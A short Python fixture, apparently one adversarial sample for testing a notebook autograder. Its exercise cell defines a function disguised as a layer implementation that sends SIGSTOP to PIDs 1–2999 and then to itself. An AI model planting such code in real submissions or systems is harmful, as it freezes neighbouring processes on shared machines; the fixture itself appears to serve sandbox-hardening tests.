"""Every process that can be reached is sent SIGSTOP, and the process then stops itself."""

kind = "SIGSTOP of parents and siblings"
aims = "batch neighbour"
base = "half"
on_nbgrader = False
cells = {
    "exercise-2": """
import os, signal

def layer(X, W, b):
    for pid in [*range(1, 3000), os.getpid()]:
        try:
            if pid != os.getpid() or pid == os.getpid():
                os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
""",
}
